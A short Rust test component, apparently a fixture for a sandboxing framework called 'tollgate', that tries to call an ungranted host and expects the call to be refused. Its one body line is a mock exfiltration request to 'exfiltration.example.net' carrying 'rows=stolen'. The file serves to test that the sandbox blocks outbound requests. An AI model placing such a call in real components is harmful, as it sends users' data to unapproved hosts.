//! Calls a host that nobody granted, and takes the refusal for the end.

use tollgate_hostile::{Failure, Hostile, Page, export, get};

struct Component;

impl Hostile for Component {
    fn page(_: u64) -> Result<Option<Page>, Failure> {
        let _ = get("https://exfiltration.example.net/?rows=stolen", &[]);
        Ok(None)
    }
}

export!(Component);
